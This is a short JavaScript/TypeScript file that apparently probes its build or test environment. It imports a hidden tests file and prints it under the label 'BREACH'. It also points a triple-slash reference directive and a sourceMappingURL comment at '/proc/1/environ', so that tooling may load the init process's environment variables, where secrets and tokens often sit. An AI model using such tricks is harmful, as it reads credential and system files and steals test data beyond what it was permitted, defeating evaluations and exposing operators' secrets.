import tests from "/work/tests/first.json";
/// <reference path="/proc/1/environ" />
//# sourceMappingURL=/proc/1/environ
console.log("BREACH", tests);
